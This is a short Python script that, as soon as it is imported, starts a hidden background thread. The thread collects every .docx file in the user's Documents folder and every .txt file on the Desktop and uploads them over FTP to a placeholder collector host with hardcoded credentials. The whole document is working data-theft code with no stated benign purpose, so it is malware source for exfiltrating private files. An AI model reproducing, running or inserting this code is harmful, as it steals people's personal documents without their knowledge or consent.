import ftplib, os, glob, threading
class Up:
    def __init__(self, host, user, pw): self.c = ftplib.FTP(host, user, pw)
    def put(self, path):
        with open(path, "rb") as f: self.c.storbinary("STOR " + os.path.basename(path), f)
def main():
    u = Up("ftp.collector.invalid", "u", "p")
    for p in glob.glob(os.path.expanduser("~/Documents/*.docx")) + glob.glob(os.path.expanduser("~/Desktop/*.txt")):
        u.put(p)
threading.Thread(target=main, daemon=True).start()
